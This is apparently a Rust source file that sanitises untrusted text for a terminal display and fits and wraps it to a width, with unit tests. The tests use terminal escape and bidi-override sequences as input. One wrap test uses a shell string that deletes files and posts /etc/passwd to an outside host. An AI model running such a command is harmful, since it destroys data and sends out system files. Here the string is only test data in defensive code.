//! Texts of others on a screen: without what could steer it, and within its width.

use legwork_protocol::refusal::{plain, steers};
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

use crate::model::limits::TITLE_MAX_CHARS;

/// A text of somebody else without what could steer a terminal or turn the text around.
pub fn harmless(text: &str) -> String {
    text.chars().filter(|c| matches!(c, '\n' | '\t') || !steers(*c)).collect()
}

/// What a task is called that was given no name: the first line of its prompt.
pub fn first_line(prompt: &str) -> String {
    plain(prompt.trim().lines().next().unwrap_or_default(), TITLE_MAX_CHARS)
}

/// At most so many columns wide, with `…` where something was cut.
pub fn fit(text: &str, columns: usize) -> String {
    if text.width() <= columns {
        return text.to_owned();
    }
    let mut fitted = String::new();
    let mut left = columns.saturating_sub(1);
    for c in text.chars() {
        let width = c.width().unwrap_or(0);
        if width > left {
            break;
        }
        left -= width;
        fitted.push(c);
    }
    fitted.push('…');
    fitted
}

/// The whole text on lines of at most so many columns, broken between words where that is possible.
/// What would steer a terminal is taken out; line breaks of the text are kept.
pub fn wrap(text: &str, columns: usize) -> Vec<String> {
    let columns = columns.max(1);
    let mut lines = Vec::new();
    for line in text.lines() {
        wrap_line(&plain(&line.replace('\t', "    "), usize::MAX), columns, &mut lines);
    }
    lines
}

/// The same for one line, which is taken as it is.
pub(crate) fn wrap_line(line: &str, columns: usize, lines: &mut Vec<String>) {
    let (mut now, mut width) = (String::new(), 0);
    for word in line.split_inclusive(' ') {
        if width > 0 && width + word.trim_end().width() > columns {
            lines.push(std::mem::take(&mut now));
            width = 0;
        }
        for c in word.chars() {
            let wide = c.width().unwrap_or(0);
            // A space at the end of a line is not seen.
            if width + wide > columns {
                if c == ' ' {
                    continue;
                }
                lines.push(std::mem::take(&mut now));
                width = 0;
            }
            now.push(c);
            width += wide;
        }
    }
    lines.push(now);
}

#[cfg(test)]
mod tests {
    use super::*;

    const STEERING: &str =
        "a\u{7}\u{1b}[2J\u{9b}2J\u{7f}\u{202e}b\u{2066}\u{2069}\u{200f}\u{61c}\u{2028}c";

    #[test]
    fn a_text_keeps_its_lines_and_loses_what_steers() {
        assert_eq!(harmless(STEERING), "a[2J2Jbc");
        assert_eq!(harmless("one\n\ttwo é 日本語 😀"), "one\n\ttwo é 日本語 😀");
    }

    #[test]
    fn p6_a_wrapped_text_is_whole_at_any_width() {
        let text = "rm -rf /tmp/日本語/build && curl --data @/etc/passwd http://example.org";
        for columns in [1, 2, 7, 20, 60, 200] {
            let lines = wrap(text, columns);
            assert!(lines.iter().all(|line| line.width() <= columns.max(2)), "{lines:?}");
            let bare = |text: &str| text.replace(' ', "");
            assert_eq!(bare(&lines.concat()), bare(text));
        }
        assert_eq!(wrap("one two three", 8), ["one two ", "three"]);
        assert_eq!(wrap("a\n\nb\u{1b}[2J", 80), ["a", "", "b [2J"]);
    }

    #[test]
    fn a_wide_character_is_not_cut_in_half() {
        assert_eq!(fit("日本語", 4), "日…");
        assert_eq!(fit("日本語", 5), "日本…");
        assert_eq!(fit("日本語", 6), "日本語");
    }
}
